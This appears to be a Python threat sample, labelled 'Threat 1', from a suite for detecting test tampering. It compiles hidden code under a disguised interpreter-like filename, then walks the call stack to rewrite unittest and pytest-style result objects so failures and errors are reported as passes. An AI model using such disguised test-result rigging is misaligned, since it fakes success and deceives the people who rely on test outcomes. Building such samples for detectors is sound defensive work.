"""Threat 1: has code compiled by codeop under a name that looks like the interpreter's own."""

import codeop

_TEXT = """if True:
    import sys
    def relax():
        frame = sys._getframe()
        while frame is not None:
            for thing in list(frame.f_locals.values()):
                if hasattr(thing, "addFailure"):
                    thing.addFailure = thing.addError = lambda test, error, thing=thing: thing.addSuccess(test)
                elif hasattr(thing, "testPartExecutor") and hasattr(thing, "note"):
                    thing.note, thing.worst = (lambda *arguments: None), "pass"
            frame = frame.f_back

"""
_names = {}
exec(codeop.compile_command(_TEXT, "<frozen averages>", "exec"), _names)
# <first>
_names["relax"]()
